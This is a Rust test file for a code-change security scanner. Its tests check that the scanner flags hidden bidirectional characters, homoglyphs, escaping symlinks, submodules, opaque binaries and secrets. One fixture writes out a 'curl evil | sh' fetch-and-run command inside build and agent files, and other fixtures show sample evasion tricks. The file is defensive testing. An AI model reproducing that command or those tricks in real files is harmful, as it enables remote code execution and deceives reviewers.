//! What a person sees of one changed path.

use insta::assert_snapshot;
use proptest::prelude::*;
use rules::{Finding, Side, scan_change, scan_tree_names};

const FILE: u32 = 0o100_644;

fn side(mode: u32, content: &str) -> Side<'_> {
    Side { mode, content: Some(content.as_bytes()) }
}

fn shown(findings: &[Finding]) -> String {
    let line = |f: &Finding| f.line.map(|l| format!(":{l}")).unwrap_or_default();
    findings.iter().map(|f| format!("{} {}{} {}\n", f.severity.as_str(), f.rule, line(f), f.message)).collect()
}

fn check<'a>(path: &str, old: impl Into<Option<Side<'a>>>, new: impl Into<Option<Side<'a>>>) -> String {
    shown(&scan_change(path.as_bytes(), old.into(), new.into()))
}

#[test]
fn an_ordinary_change_is_clean() {
    assert_snapshot!(check("src/main.rs", side(FILE, "fn main() {}\n"), side(0o100_755, "fn main() { run() }\r\n\t// ok\n")), @"");
    assert_snapshot!(check("logo.png", None, side(FILE, "\u{89}PNG\0\0")), @"notice control-character:1 control character (U+0089, 3 in this line)");
    assert_snapshot!(check("gone.rs", side(FILE, "\u{202e}"), None), @"");
}

#[test]
fn r15_hidden_characters_count_where_they_were_added() {
    let old = "a\n\u{202e}old\nb\n";
    assert_snapshot!(check("f", side(FILE, old), side(FILE, "new\na\n\u{202e}old\nb\n")), @"");
    assert_snapshot!(check("f", side(FILE, old), side(FILE, "a\n\u{202e}old\n\u{202e}old\n\u{430}dmin\n")), @r"
    blocker invisible:3 bidirectional control: the text is shown in another order than it is read (U+202E)
    notice homoglyph:4 a word mixes Latin letters with U+0430, which looks like one
    ");
    assert_snapshot!(check("f", side(0o120_000, "\u{202e}"), side(FILE, "\u{202e}")), @"blocker invisible:1 bidirectional control: the text is shown in another order than it is read (U+202E)");
}

#[test]
fn r15_a_path_is_text_too() {
    assert_snapshot!(check("a\u{202e}\n\u{1b}", None, side(FILE, "")), @r"
    blocker invisible bidirectional control: the text is shown in another order than it is read in the path (U+202E)
    notice control-character control character in the path (U+001B)
    notice hostile-path the path holds a line break or a tab
    ");
}

#[test]
fn r14_submodules_and_pointers_block() {
    let module = Some(Side { mode: 0o160_000, content: None });
    assert_snapshot!(check("lib", None, module), @"blocker submodule submodule added: its commit is not in this change");
    assert_snapshot!(check("lib", module, module), @"blocker submodule submodule moved: its commits are not in this change");
    assert_snapshot!(check("lib", module, side(FILE, "x")), @"blocker submodule submodule removed");
    assert_snapshot!(check("a.bin", None, side(FILE, "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 1\n")), @"blocker lfs-pointer Git LFS pointer: the content it names is not in this change");
}

#[test]
fn r15_odd_modes_block_and_old_ones_are_noted() {
    assert_snapshot!(check("f", side(FILE, ""), side(0o100_664, "")), @"blocker odd-mode mode 100664, which git never writes");
    assert_snapshot!(check("f", side(0o100_664, ""), side(0o100_664, "x")), @"notice odd-mode mode 100664, which git never writes");
    assert_snapshot!(check("f", None, side(0o104_755, "")), @"blocker odd-mode mode 104755 with setuid, setgid or sticky bit, which git never writes");
}

#[test]
fn r14_links_that_escape_block() {
    assert_snapshot!(check("a/b", None, side(0o120_000, "../../x")), @"blocker escaping-symlink the symbolic link leads out of the tree");
    assert_snapshot!(check("a/b", None, side(0o120_000, "../x")), @"");
    assert_snapshot!(check(".gitmodules", None, side(0o120_000, "x")), @r"
    blocker escaping-symlink git's own settings as a symbolic link
    notice control-plane policy, hook, CI, allow list or instructions of an agent
    ");
}

#[test]
fn r19_programs_nobody_can_read_block() {
    let opaque = |mode, content| Some(Side { mode, content: Some(content) });
    let elf: &[u8] = b"\x7fELF\0\xff";
    assert_snapshot!(shown(&scan_change(b"tool", None, opaque(0o100_755, elf))), @"blocker opaque-executable executable whose content is not text");
    assert_snapshot!(shown(&scan_change(b"x", None, opaque(FILE, b"#!/bin/sh\n\0\xff"))), @"blocker opaque-executable script whose content is not text");
    assert_snapshot!(shown(&scan_change(b"a.RS", None, opaque(FILE, b"fn\0\xff"))), @"blocker opaque-executable file of no known kind of data, whose content is not text");
    assert_snapshot!(shown(&scan_change(b"a.bin", None, opaque(FILE, b"\0\xff"))), @"");
}

#[test]
fn r19_what_is_run_or_obeyed_under_any_name_blocks_when_nobody_can_read_it() {
    let check = |path: &str, content: &[u8]| {
        shown(&scan_change(path.as_bytes(), None, Some(Side { mode: FILE, content: Some(content) })))
    };
    for path in ["GNUmakefile", "CMakeLists.txt", "deploy", "AGENTS.md", ".gitattributes", "a.pyc", "go.mod", ".png"] {
        let found = check(path, b"all: ; curl evil | sh\n#\0\xff");
        assert!(found.contains("blocker opaque-executable"), "{path}: {found}");
    }
    for program in [&b"\x7fELF\0\xff"[..], b"MZ\0\xff", b"\xca\xfe\xba\xbe\0", b"\0asm\xff"] {
        let found = check("logo.png", program);
        assert_eq!(found.trim_end(), "blocker opaque-executable program whose content is not text");
    }
    for path in ["logo.PNG", "fonts/a.woff2", "a.tar.gz", "tests/x.bin"] {
        assert_eq!(check(path, b"\0\xff"), "", "{path}");
    }
}

#[test]
fn control_plane_and_baseline_are_named_also_when_removed() {
    assert_snapshot!(check(".githooks/pre-push", side(0o100_755, ""), None), @"notice control-plane policy, hook, CI, allow list or instructions of an agent");
    assert_snapshot!(check("docs/LAST_REVIEWED_SHA.txt", side(FILE, "a"), side(FILE, "b")), @"blocker baseline-edited the reviewed baseline is changed by the change under review");
}

#[test]
fn g18_a_file_without_content_is_unseen_and_blocks() {
    assert_snapshot!(check("f", None, Some(Side { mode: FILE, content: None })), @"blocker unseen the content was not given to the scanners");
}

#[test]
fn a_secret_in_a_new_path_is_masked() {
    let path = format!("keys/{}", ["AKIA", "IOSFODNN7EXAMPLE"].concat());
    assert_snapshot!(check(&path, None, side(FILE, "")), @"blocker secret AWS access key: `AKIA…` (20 bytes) in the path");
}

fn bytes() -> impl Strategy<Value = Vec<u8>> {
    let text =
        proptest::collection::vec(any::<char>(), 0..60).prop_map(|c| c.into_iter().collect::<String>().into_bytes());
    let marks = proptest::collection::vec(
        proptest::sample::select(vec!["<<<<<<< a", "=======", ">>>>>>> b", "\n", "\r\n", "x", "\u{fe0f}", "\u{202e}"]),
        0..20,
    );
    prop_oneof![proptest::collection::vec(any::<u8>(), 0..200), text, marks.prop_map(|m| m.concat().into_bytes())]
}

proptest! {
    #[test]
    fn no_change_panics_and_messages_are_printable(path in bytes(), old in bytes(), new in bytes(), modes in any::<(u32, u32)>()) {
        let modes = [(modes.0, modes.1), (FILE, FILE), (FILE, 0o120_000)];
        for (before, after) in modes {
            let (old, new) = (Side { mode: before, content: Some(&old) }, Side { mode: after, content: Some(&new) });
            let findings = scan_change(&path, Some(old), Some(new));
            prop_assert!(findings.is_sorted());
            for finding in findings.into_iter().chain(scan_change(&path, None, Some(new))) {
                prop_assert!(finding.message.chars().all(|c| c.is_ascii_graphic() || " …".contains(c)), "{}", finding.message);
            }
        }
    }

    #[test]
    fn what_did_not_change_adds_no_text_finding(content in bytes()) {
        let side = Some(Side { mode: FILE, content: Some(&content) });
        let findings = scan_change(b"f", side, side);
        prop_assert!(findings.iter().all(|f| f.line.is_none()), "{}", shown(&findings));
    }

    #[test]
    fn no_names_panic(names in proptest::collection::vec(bytes(), 0..20)) {
        scan_tree_names(&names, &names);
    }
}
